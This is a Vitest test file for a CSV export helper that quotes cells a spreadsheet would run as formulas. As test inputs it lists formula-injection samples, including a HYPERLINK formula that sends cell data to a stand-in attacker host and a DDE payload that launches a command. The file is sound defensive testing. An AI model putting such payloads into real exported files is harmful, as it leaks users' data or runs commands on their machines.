import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.ts';

describe('a CSV cell is never a formula', () => {
  it('prefixes a cell that a spreadsheet would run with a quote', () => {
    for (const v of ['=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', '+81 90 1234 5678', '-2+3', "-cmd|' /C calc'!A0", '@SUM(A1)', '\t=1', '\r=1']) {
      expect(csvCell(v)).toBe(`'${v}`);
    }
  });
  it('leaves every other cell, plain negative numbers included, as it is', () => {
    for (const v of ['山田 太郎', 'a=b', '', '-1200', '-1,200', '-3.5', '1+1', ' =1']) expect(csvCell(v)).toBe(v);
  });
});
